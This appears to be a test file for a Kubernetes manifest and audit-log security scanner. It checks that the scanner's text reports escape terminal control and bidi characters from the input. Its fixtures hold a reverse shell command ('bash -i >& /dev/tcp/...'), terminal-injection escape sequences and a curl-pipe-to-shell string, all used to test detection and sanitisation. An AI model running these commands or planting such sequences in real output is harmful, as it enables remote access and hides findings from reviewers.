/**
 * Text reports never hand the terminal a control character from the input: ESC sequences, carriage
 * returns and bidi overrides can erase or reorder a line so that a finding is not seen.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { formatText, printable, type Finding } from '../src/index.js';
import { formatAuditText, type AuditMatch } from '../src/entries/audit.js';

/** Every character a terminal or a bidi-aware viewer acts on, none of them printable text. */
const HOSTILE = ['\x1b', '\x07', '\r', '\n', '\t', '\x00', '\x08', '\x7f', '\x9b', '\x85', '\u061c', '\u200e', '\u200f', '\u202a', '\u202e', '\u2066', '\u2069', '\u2028', '\u2029'];
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

describe('printable', () => {
  test('shows each control and bidi character as an escape', () => {
    assert.equal(printable('a\x1b[2Kb\rc\nd\te\x00f\x7fg\x9bh\u202ei\u2066j'), 'a\\x1b[2Kb\\rc\\nd\\te\\x00f\\x7fg\\x9bh\\u202ei\\u2066j');
    for (const character of HOSTILE) assert.doesNotMatch(printable(`x${character}y`), RAW, JSON.stringify(character));
  });

  test('leaves ordinary text alone, non-ASCII letters, emoji and backslashes included', () => {
    for (const text of ['curl -fsSL https://x | sh', 'naïve Ünïcode — 日本語 🚀', String.raw`printf '\x41'`, 'عربى', 'a\u200db']) {
      assert.equal(printable(text), text);
    }
  });
});

const ESCAPES = '\x1b]0;pwned\x07\x1b[2K\r\u202e';

function finding(fields: Partial<Finding> = {}): Finding {
  return {
    indicator: 'shell-escape', severity: 'error', message: `Container "x${ESCAPES}" opens a reverse shell: bash -i >& /dev/tcp/1.2.3.4/1${ESCAPES}`,
    path: '/spec/template/spec/containers/0/command/2', evidence: `bash -i${ESCAPES}`, document: 0, kind: 'Job', name: `job${ESCAPES}`, namespace: `ns${ESCAPES}`,
    range: { start: { line: 3, column: 1 }, end: { line: 3, column: 5 } }, ...fields,
  };
}

describe('text reports neutralise what the input wrote', () => {
  for (const color of [false, true]) {
    test(`scan text${color ? ', in colour' : ''}: file names, ids, messages and errors`, () => {
      const text = formatText(
        { files: [{ file: `jobs/${ESCAPES}.yaml`, result: { findings: [finding()], suppressed: [], errors: [{ message: `unknown indicator "${ESCAPES}"`, range: finding().range! }], documents: 1 } }], errors: [{ file: `bad${ESCAPES}.yaml`, message: `cannot read${ESCAPES}` }] },
        { color },
      );
      // Colour codes are the formatter's own; nothing else may carry an ESC, and no other control character appears.
      const withoutColour = text.replace(/\x1b\[\d+m/g, '');
      assert.doesNotMatch(withoutColour.replaceAll('\n', ''), RAW);
      assert.match(withoutColour, /jobs\/\\x1b\]0;pwned\\x07\\x1b\[2K\\r\\u202e\.yaml:3:1/);
      assert.match(withoutColour, /bash -i >& \/dev\/tcp\/1\.2\.3\.4\/1\\x1b/);
    });
  }

  test('audit text: commands, evidence, user names, audit IDs, objects, user agents, problems', () => {
    const match: AuditMatch = {
      file: 'audit.log', line: 7, auditID: `id${ESCAPES}`, stage: 'ResponseComplete', timestamp: `2026${ESCAPES}`, verb: 'create', resource: 'cronjobs',
      namespace: `ns${ESCAPES}`, name: `name${ESCAPES}`, user: `mallory${ESCAPES}`, sourceIPs: [`10.0.0.1${ESCAPES}`], userAgent: `kubectl${ESCAPES}`, outcome: 'allowed', owner: { kind: 'CronJob', name: `owner${ESCAPES}` }, impersonatedUser: `admin${ESCAPES}`, cloudIdentity: null,
      indicators: [{ indicator: 'shell-escape', severity: 'error', message: 'Container runs a reverse shell.', path: `/spec/x${ESCAPES}`, evidence: `bash -i${ESCAPES}` }],
    };
    for (const color of [false, true]) {
      const text = formatAuditText(
        { mode: 'structural', files: [{ file: `audit${ESCAPES}.log`, matches: [match], summary: { events: 1, jobWrites: 1, matches: 1, uninspectable: 0, malformed: 1, duplicates: 0, filteredOut: 0, suppressed: 0 }, problems: [{ line: 9, severity: 'error', message: `not valid JSON ${ESCAPES}` }], formats: ['kube-apiserver'], uninspectable: [], suppressed: [] }], errors: [] },
        { color },
      );
      const withoutColour = text.replace(/\x1b\[\d+m/g, '');
      assert.doesNotMatch(withoutColour.replaceAll('\n', ''), RAW);
      for (const shown of ['audit ID id\\x1b', 'mallory\\x1b', 'ns\\x1b', 'Evidence: bash -i\\x1b', 'not valid JSON \\x1b', 'kubectl\\x1b', 'audit\\x1b', 'admin\\x1b', 'owner\\x1b']) {
        assert.ok(withoutColour.includes(shown), shown);
      }
    }
  });
});
